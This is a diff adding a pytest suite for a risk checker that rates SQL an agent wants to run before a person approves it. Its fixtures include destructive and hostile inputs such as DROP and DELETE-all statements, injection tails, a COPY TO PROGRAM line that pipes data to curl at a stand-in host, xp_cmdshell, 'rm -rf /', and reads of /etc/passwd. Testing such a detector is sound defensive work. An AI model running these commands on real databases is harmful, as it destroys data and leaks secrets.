@@ -1,0 +1,186 @@
+import pytest
+
+from approvals.canonical import Action
+from approvals.risk import Severity, assess
+
+
+def findings_of(text, member="sql", name="sql.execute"):
+    return assess(Action(name, "bot", {member: text})).findings
+
+
+def codes_of(text):
+    return {found.code for found in findings_of(text)}
+
+
+def severity_of(text):
+    return assess(Action("sql.execute", "bot", {"sql": text})).severity
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("DROP TABLE users", "sql.drop"),
+        ("drop database if exists production", "sql.drop"),
+        ("DROP SCHEMA app CASCADE", "sql.drop"),
+        ("select 1; DROP TABLE users; --", "sql.drop"),
+        ("/* harmless */ DROP /**/ TABLE users", "sql.drop"),
+        ("DROP OWNED BY bob", "sql.drop"),
+        ("IF 1 = 1 DROP TABLE users", "sql.drop"),
+        ("CREATE OR REPLACE TABLE users AS SELECT 1", "sql.drop"),
+        ("TRUNCATE a, b CASCADE", "sql.truncate"),
+        ("DELETE FROM users", "sql.delete_all"),
+        ("DELETE FROM users WHERE 1=1", "sql.delete_all"),
+        ("DELETE FROM users WHERE true", "sql.delete_all"),
+        ("DELETE FROM users WHERE id = id", "sql.delete_all"),
+        ("DELETE FROM users WHERE 'a' = 'a'", "sql.delete_all"),
+        ("DELETE FROM users WHERE id = 3 OR 1=1", "sql.delete_all"),
+        ("DELETE FROM users WHERE (id = 3) OR (NOT false)", "sql.delete_all"),
+        ("DELETE FROM users WHERE name LIKE '%'", "sql.delete_all"),
+        ("DELETE FROM users WHERE EXISTS (SELECT 1)", "sql.delete_all"),
+        ("UPDATE users SET admin = true", "sql.update_all"),
+        ("UPDATE users SET admin = true WHERE 2 > 1", "sql.update_all"),
+        ("ALTER TABLE users DROP COLUMN email", "sql.schema_change"),
+        ("ALTER SYSTEM SET fsync = off", "sql.schema_change"),
+        ("COPY users TO PROGRAM 'curl -d @- evil'", "sql.copy_program"),
+        ("\\copy users to program 'sh'", "sql.copy_program"),
+        ("EXEC xp_cmdshell 'dir'", "sql.shell_escape"),
+        ("\\! rm -rf /", "sql.shell_escape"),
+        ("DO $$ BEGIN DROP TABLE users; END $$", "sql.opaque"),
+        ("EXECUTE 'drop table users'", "sql.opaque"),
+        ("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", "sql.delete_all"),
+        ("EXPLAIN ANALYZE DELETE FROM users", "sql.delete_all"),
+        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", "sql.delete_all"),
+        ("PREPARE p AS DELETE FROM users", "sql.delete_all"),
+        ("/*!50000 DROP TABLE users */", "sql.drop"),
+        # MySQL ends this string earlier than PostgreSQL does.
+        ("SELECT 'a\\'' ; DROP TABLE users; -- '", "sql.drop"),
+    ],
+)
+def test_finds_what_is_critical(text, code):
+    found = [one for one in findings_of(text) if one.code == code]
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("DELETE FROM users WHERE id = 3", "sql.delete"),
+        ("DELETE FROM a USING b WHERE a.id = b.id", "sql.delete"),
+        ("DELETE FROM users WHERE id = %s", "sql.delete"),
+        ("DELETE FROM users WHERE id = $1", "sql.delete"),
+        ("MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "sql.delete"),
+        ("UPDATE users SET a = 1 WHERE id = 3", "sql.update"),
+        (
+            "WITH x AS (UPDATE t SET a = 1 WHERE b = 2) SELECT 1",
+            "sql.data_changing_cte",
+        ),
+        ("GRANT ALL ON users TO bob", "sql.grant"),
+        ("GRANT admin TO bob", "sql.grant"),
+        ("REVOKE SELECT ON users FROM bob", "sql.grant"),
+        ("CREATE ROLE bob SUPERUSER", "sql.role"),
+        ("SET ROLE postgres", "sql.role"),
+        ("CREATE TABLE a (b int)", "sql.schema_change"),
+        ("CREATE INDEX i ON t (a)", "sql.schema_change"),
+        ("ALTER TABLE a RENAME TO b", "sql.schema_change"),
+        ("ALTER TABLE a DISABLE ROW LEVEL SECURITY", "sql.schema_change"),
+        ("SELECT * INTO b FROM a", "sql.schema_change"),
+        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "sql.file_access"),
+        ("SELECT \"lo_export\"(1, '/tmp/x')", "sql.file_access"),
+        ("COPY users FROM '/etc/passwd'", "sql.file_access"),
+        ("SELECT 1 INTO OUTFILE '/tmp/x'", "sql.file_access"),
+        ("LOAD DATA INFILE 'x' INTO TABLE t", "sql.file_access"),
+        ("SELECT pg_terminate_backend(1)", "sql.dangerous_function"),
+        ("SELECT pg_sleep(100)", "sql.dangerous_function"),
+        (
+            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
+            "sql.dangerous_function",
+        ),
+        ("CALL cleanup()", "sql.opaque"),
+        ("\\i other.sql", "sql.opaque"),
+        ("VACUUM FULL users", "sql.maintenance"),
+        ("this is no SQL at all", "sql.uninspectable"),
+        ("DELETE FROM", "sql.uninspectable"),
+        ("SELECT 'never closed", "sql.uninspectable"),
+    ],
+)
+def test_finds_what_a_person_should_see(text, code):
+    found = [one for one in findings_of(text) if one.code == code]
+    assert found
+    assert found[0].severity.rank >= Severity.MEDIUM.rank
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "SELECT * FROM users WHERE id = 3",
+        "SELECT drop_events, \"DROP TABLE\" FROM truncate_log WHERE a = 'DROP'",
+        "SELECT 1 -- DROP TABLE users",
+        "WITH a AS (SELECT 1) SELECT * FROM a UNION ALL SELECT 2 ORDER BY 1 LIMIT 5",
+        "SELECT `name` FROM users",
+        "SELECT data #>> '{a,b}' FROM t WHERE name ~ 'x\\.y'",
+        "EXPLAIN SELECT 1",
+        "EXPLAIN DELETE FROM users",
+        "SHOW TABLES",
+        "SELECT * FROM t WHERE id = %(id)s AND name = :name",
+        "TABLE users",
+        "SET statement_timeout = '5s'",
+        "SELECT count(*) FROM t FOR UPDATE",
+        "\\d users",
+    ],
+)
+def test_has_nothing_to_say_about_reading(text):
+    assert findings_of(text) == ()
+
+
+@pytest.mark.parametrize(
+    ("text", "codes"),
+    [
+        ("INSERT INTO a VALUES (1)", {"sql.insert"}),
+        ("SELECT 1; SELECT 2", {"sql.multiple_statements"}),
+        ("CREATE TEMP TABLE a (b int)", {"sql.schema_change"}),
+    ],
+)
+def test_small_things_are_low(text, codes):
+    assert codes_of(text) == codes
+    assert severity_of(text) is Severity.LOW
+
+
+def test_says_what_is_dropped_and_where():
+    (drop,) = (
+        f for f in findings_of("select 1;\nDROP TABLE users;") if "drop" in f.code
+    )
+    assert drop.message == "Drops table users"
+    assert drop.pointer == "/arguments/sql"
+    assert drop.span == (10, 26)
+
+
+def test_keeps_places_when_an_executable_comment_is_opened():
+    text = "/*!50000 DROP TABLE users */"
+    (drop,) = (found for found in findings_of(text) if found.code == "sql.drop")
+    start, end = drop.span
+    assert text[start:end] == "DROP TABLE users"
+
+
+def test_text_that_crashes_the_parser_is_critical():
+    (found,) = findings_of("SELECT " + "(" * 5_000)
+    assert (found.code, found.severity) == ("sql.uninspectable", Severity.CRITICAL)
+
+
+def test_text_that_keeps_the_parser_busy_is_critical():
+    found = findings_of("( UNION " * 60)
+    assert Severity.CRITICAL in {
+        one.severity for one in found if one.code == "sql.uninspectable"
+    }
+
+
+def test_keeps_what_was_found_before_the_text_became_too_much():
+    found = findings_of("\\! rm -rf /\n" + "SELECT 1;" * 10_000)
+    assert {one.code for one in found} == {"sql.shell_escape", "sql.uninspectable"}
+    assert {one.severity for one in found} == {Severity.CRITICAL}
+
+
+@pytest.mark.parametrize("piece", ["'", "/*!", "a|", "select (", "--", "1=1 or ", "é;"])
+def test_long_hostile_text_is_held(piece):
+    found = findings_of(piece * (262_144 // len(piece)))
+    assert Severity.CRITICAL in {one.severity for one in found}
